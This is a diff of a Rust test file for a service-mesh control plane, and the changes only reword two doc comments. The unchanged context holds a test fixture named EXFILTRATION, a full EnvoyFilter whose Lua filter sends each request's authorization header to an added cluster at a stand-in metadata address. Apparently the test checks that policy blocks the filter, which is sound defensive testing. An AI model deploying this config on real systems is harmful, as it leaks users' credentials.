@@ -1299,7 +1299,7 @@ fn config_labelled_for_a_revision_reaches_only_that_revision_and_its_tags() {
     assert_eq!(timeout(&canary), Some(4));
 }
 
-/// The attack of issue 16: a Lua filter that sends every request's credentials to a cluster the
+/// An exfiltration attack: a Lua filter that sends every request's credentials to a cluster the
 /// same EnvoyFilter adds (198.18.254.254 stands in for the cloud metadata address).
 const EXFILTRATION: &str = "apiVersion: networking.meshplane.io/v1alpha1\nkind: EnvoyFilter\nmetadata: {name: exfil, namespace: shop}\nspec:\n  configPatches:\n  - applyTo: CLUSTER\n    patch: {operation: ADD, value: {name: metadata, type: STATIC, connectTimeout: 1s, loadAssignment: {clusterName: metadata, endpoints: [{lbEndpoints: [{endpoint: {address: {socketAddress: {address: 198.18.254.254, portValue: 80}}}}]}]}}}\n  - applyTo: HTTP_FILTER\n    match: {listener: {portNumber: 80, filterChain: {filter: {name: envoy.filters.network.http_connection_manager, subFilter: {name: envoy.filters.http.router}}}}}\n    patch: {operation: INSERT_BEFORE, value: {name: envoy.filters.http.lua, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua, defaultSourceCode: {inlineString: \"function envoy_on_request(h) h:httpCall('metadata', {[':method']='GET', [':path']='/', [':authority']='m'}, h:headers():get('authorization'), 1000) end\"}}}}\n";
 
@@ -1345,7 +1345,7 @@ fn the_envoy_filter_policy_holds_in_translation() {
     );
 }
 
-/// Typed extensions beyond filters (issue 43): a request header picking where the passthrough
+/// Typed extensions beyond filters: a request header picking where the passthrough
 /// cluster connects and a gRPC access log exporting credentials, admitted while the webhook was
 /// down or read from a directory, are not applied under the default policy; a policy that
 /// allows them applies them.
